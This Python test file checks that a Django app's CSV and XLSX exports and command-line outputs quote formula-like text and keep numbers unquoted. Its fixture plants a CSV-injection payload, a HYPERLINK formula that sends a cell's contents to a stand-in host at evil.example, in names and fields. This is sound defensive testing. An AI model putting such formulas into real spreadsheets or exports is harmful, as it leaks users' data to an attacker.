"""No formulas out: a profile text, a village name, an approved programme name and an RPJMD programme name written
as spreadsheet formulas come out as quoted text in every CSV and XLSX Petakan writes — public downloads, signed-in
exports and command-line files — while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client

from petakan.indices.models import Run
from petakan.lib.cells import FORMULA_STARTS
from petakan.planning.models import Programme, RpjmdProgram
from petakan.profiles.models import Profile
from petakan.regions.models import Area

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'
PUBLISHED_VILLAGE = "33.24.01.2001"  # its profile is published: public files carry it
DRAFT_VILLAGE = "33.24.01.2002"  # its profile is sent back to draft: the "not submitted" list carries it
TEXT_FIELD = "flagship_product"


@pytest.fixture
def hostile(kendal: Area) -> dict[str, Any]:
    """Demo profiles with formula text in a field and in two village names; a run computed from them; the demo
    masterplan with an approved programme and an RPJMD programme named by a formula."""
    quiet = StringIO()
    call_command("profiles", "load-demo", "--year", "2026", stdout=quiet)
    Area.objects.filter(code=PUBLISHED_VILLAGE).update(name="-" + FORMULA)
    Area.objects.filter(code=DRAFT_VILLAGE).update(name="@" + FORMULA)
    profile = Profile.objects.get(area__code=PUBLISHED_VILLAGE, year=2026)
    profile.values = {**profile.values, TEXT_FIELD: FORMULA}
    profile.save()
    Profile.objects.filter(area__code=DRAFT_VILLAGE, year=2026).update(status="draft")
    call_command("indices", "compute", "--year", "2026", "--status", "published", stdout=quiet)
    call_command("planning", "load-demo", stdout=quiet)
    programme = Programme.objects.filter(approved_at__isnull=False).order_by("pk").first()
    assert programme is not None
    Programme.objects.filter(pk=programme.pk).update(name="+" + FORMULA)
    RpjmdProgram.objects.filter(pk=RpjmdProgram.objects.order_by("pk").first().pk).update(name=FORMULA)
    run = Run.objects.get(is_current=True, year=2026, profile_status="published")
    return {"run": run}


# ------------------------------------------------------------------------------------------------ reading back


def csv_cells(content: bytes) -> list[Any]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"live formula in {ws.title}!{cell.coordinate}: {cell.value}"
                out.append(cell.value)
    return out


def assert_safe(cells: list[Any], *, numeric: bool) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    # a CSV cell "-5.2" is a number (CSV has no types): only non-numeric text must not start a formula
    assert not [t for t in texts if t.startswith(FORMULA_STARTS) and not _is_number(t)], "a text cell starts a formula"
    assert any(t.endswith(FORMULA) and t.startswith("'") for t in texts), "the hostile text is not in this file"
    if numeric:
        # numbers are not quoted: a CSV has unquoted numeric cells, an XLSX has number cells
        assert any(isinstance(c, int | float) and not isinstance(c, bool) for c in cells) or any(
            isinstance(c, str) and _is_number(c) for c in cells
        ), "no number left in the file"
        assert not [t for t in texts if t.startswith("'") and _is_number(t[1:])], "a number was quoted as text"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def read(name: str, content: bytes) -> list[Any]:
    return xlsx_cells(content) if name.endswith(".xlsx") else csv_cells(content)


# ------------------------------------------------------------------------------------------------ web downloads

# (url, signed in as admin?, has numbers); {run} is the run's id
DOWNLOADS = [
    ("/data-terbuka/profil-desa-2026.csv", False, True),
    ("/peta/unduh.csv?run={run}", False, True),
    ("/rencana/keselarasan.xlsx", False, True),
    ("/indeks/run/{run}/skor.csv", False, True),
    ("/indeks/run/{run}/skor.xlsx", False, True),
    ("/profil/excel/templat.xlsx?cakupan=33.24.01&tahun=2026", True, True),
    ("/profil/kelengkapan/belum-diajukan.csv?tahun=2026", True, False),
    ("/profil/kelengkapan/belum-diajukan.xlsx?tahun=2026", True, False),
    ("/rencana/rpjmd/templat.xlsx", True, True),
    ("/ekonomi/analisis.csv", False, True),
]


@pytest.mark.parametrize(("url", "signed_in", "numeric"), DOWNLOADS)
def test_every_download_quotes_formula_text_and_keeps_numbers(
    hostile: dict[str, Any], cast: dict[str, Any], client: Client, url: str, signed_in: bool, numeric: bool
) -> None:
    if url.startswith("/ekonomi/"):
        call_command("economy", "load-demo", stdout=StringIO())
        _name_a_sector_by_a_formula()
    if signed_in:
        client.force_login(cast["admin"])
    response = client.get(url.format(run=hostile["run"].pk))
    assert response.status_code == 200, response.content[:300]
    path = url.split("?")[0]
    assert_safe(read(path, response.content), numeric=numeric)


def _name_a_sector_by_a_formula() -> None:
    """The economy CSV carries the region names of the two PDRB series compared."""
    from petakan.economy.models import PdrbSeries

    first = PdrbSeries.objects.order_by("pk").first()
    assert first is not None
    PdrbSeries.objects.filter(pk=first.pk).update(region_name=FORMULA)


# ------------------------------------------------------------------------------------------------ commands


def profiles_template(out: Path) -> Path:
    path = out / "profil.xlsx"
    call_command("profiles", "template", "--scope", "33.24.01", "--year", "2026", "--out", str(path), stdout=StringIO())
    return path


def planning_template(out: Path) -> Path:
    path = out / "rpjmd.xlsx"
    call_command("planning", "template", "--out", str(path), stdout=StringIO())
    return path


def area_accounts(out: Path) -> Path:
    path = out / "akun.xlsx"
    call_command("accounts", "create-area-accounts", "--out", str(path), "--commit", stdout=StringIO())
    return path


def idm_score(out: Path, suffix: str) -> Path:
    """``idm score`` passes the input's own columns through: a name column with a formula among them."""
    from petakan.lib.idm import load_edition

    items = load_edition("idm-2020").item_codes
    source = out / "skor.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["code", "year", "nama", *items])
        writer.writerow([PUBLISHED_VILLAGE, 2024, FORMULA, *[5] * len(items)])
        writer.writerow([DRAFT_VILLAGE, 2024, "-" + FORMULA, *[3] * len(items)])
    path = out / f"hasil{suffix}"
    call_command("idm", "score", "--input", str(source), "--out", str(path), stdout=StringIO(), stderr=StringIO())
    return path


def index_run(out: Path) -> Path:
    """``index run`` writes the units' own codes: one of the ASEM example's codes replaced by a formula."""
    import pandas as pd
    from django.conf import settings

    base = Path(settings.PETAKAN_DATA_DIR) / "oracles" / "coinr_asem"
    data = pd.read_csv(base / "ASEM_iData.csv")
    data.loc[0, "uCode"] = FORMULA
    data.to_csv(out / "data.csv", index=False)
    call_command(
        "index", "run", "--data", str(out / "data.csv"), "--meta", str(base / "ASEM_iMeta.csv"),
        "--out", str(out / "run"), stdout=StringIO(),
    )  # fmt: skip
    return out / "run" / "scores.csv"


COMMANDS: list[tuple[str, Callable[[Path], Path], bool]] = [
    ("index run", index_run, True),
    ("profiles template", profiles_template, True),
    ("planning template", planning_template, True),
    ("accounts create-area-accounts", area_accounts, False),
    ("idm score csv", lambda out: idm_score(out, ".csv"), True),
    ("idm score xlsx", lambda out: idm_score(out, ".xlsx"), True),
]


@pytest.mark.parametrize(("name", "command", "numeric"), COMMANDS, ids=[c[0] for c in COMMANDS])
def test_every_command_output_quotes_formula_text_and_keeps_numbers(
    hostile: dict[str, Any], tmp_path: Path, name: str, command: Callable[[Path], Path], numeric: bool
) -> None:
    path = command(tmp_path)
    assert_safe(read(path.name, path.read_bytes()), numeric=numeric)
